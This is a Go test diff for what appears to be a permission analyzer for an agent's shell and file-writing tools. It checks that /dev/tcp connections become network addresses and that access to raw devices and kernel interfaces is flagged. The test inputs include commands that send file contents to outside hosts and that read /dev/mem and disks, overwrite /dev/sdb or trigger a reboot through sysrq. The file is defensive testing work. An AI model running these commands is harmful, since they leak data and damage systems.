@@ -1,6 +1,7 @@
 package tools
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -312,6 +313,48 @@ func TestRiskOfEmbeddedLanguages(t *testing.T) {
 		if a := analyze(t, KindShell, p, "command", command); a.Risk != want {
 			t.Errorf("%s: %v, want %v", command, a.Risk, want)
 		}
+	}
+}
+
+// A connection that the shell opens has an address that rules for web_fetch judge, in its normal form.
+func TestConnectionsOfTheShell(t *testing.T) {
+	p := workspace(t, map[string]string{"f": "x"})
+	for command, want := range map[string]string{
+		`cat < /dev/tcp/10.0.0.1/80`:          "tcp://10.0.0.1:80/",
+		`echo x > /dev/udp/example.com/53`:    "udp://example.com:53/",
+		`exec 3<>/dev/tcp/0x7f000001/7777`:    "tcp://127.0.0.1:7777/",
+		`cat f >& /dev/tcp/example.com/80`:    "tcp://example.com:80/",
+		`{ ls; cat f; } > /dev/tcp/1.2.3.4/9`: "tcp://1.2.3.4:9/",
+		`> /dev/tcp/1.2.3.4/9`:                "tcp://1.2.3.4:9/",
+		`bash -c 'cat < /dev/tcp/1.2.3.4/9'`:  "tcp://1.2.3.4:9/",
+	} {
+		a := analyze(t, KindShell, p, "command", command)
+		i := slices.IndexFunc(a.Subjects, func(s permissions.Subject) bool { return s.Kind == KindFetch })
+		if i < 0 || a.Subjects[i].Decides[0] != want || !a.Subjects[i].KindBound || a.Subjects[i].DeniesOnly || permissions.Network.Exceeds(a.Risk) {
+			t.Errorf("%s: %+v, %v, want %s", command, a.Subjects, a.Risk, want)
+		}
+	}
+	if a := analyze(t, KindShell, p, "command", `cat < /dev/tcp/$HOST/80`); a.Risk != permissions.Unknown {
+		t.Errorf("a connection to nobody knows where is %v", a.Risk)
+	}
+}
+
+// Devices and settings of the system are no files: only a person releases what touches them.
+func TestDevices(t *testing.T) {
+	p := workspace(t, map[string]string{"f": "x"})
+	for command, marked := range map[string]bool{
+		`cat /dev/sda`: true, `head -c 9 /dev/mem`: true, `cat < /dev/input/event0`: true, `cp f /dev/sdb`: true, `echo 1 > /proc/sys/vm/drop_caches`: true,
+		`echo x | tee /sys/power/state`: true, `dd if=/dev/sda of=f`: true, `echo x >> /dev/ttyUSB0`: true, `cat /proc/kcore`: true, `echo b > /proc/sysrq-trigger`: true,
+		`cat /dev/null`: false, `head -c 9 /dev/urandom`: false, `cat /dev/stdin`: false, `ls > /dev/null`: false, `echo x > /dev/stderr`: false, `cat /proc/cpuinfo`: false,
+		`cat /proc/sys/vm/swappiness`: false, `cat /sys/class/net/lo/mtu`: false, `echo x > /dev/fd/3`: false, `echo x > /dev/tty`: false, `echo x > /dev/shm/a`: false,
+	} {
+		a := analyze(t, KindShell, p, "command", command)
+		if got := slices.ContainsFunc(a.Marks, func(m Mark) bool { return m.Code == "device" }); got != marked {
+			t.Errorf("%s: marked %v, want %v: %+v", command, got, marked, a.Marks)
+		}
+	}
+	if a := analyze(t, KindWriteFile, p, "path", "/dev/sda", "content", "x"); len(a.Marks) == 0 {
+		t.Error("write_file of a device is not marked")
 	}
 }
 
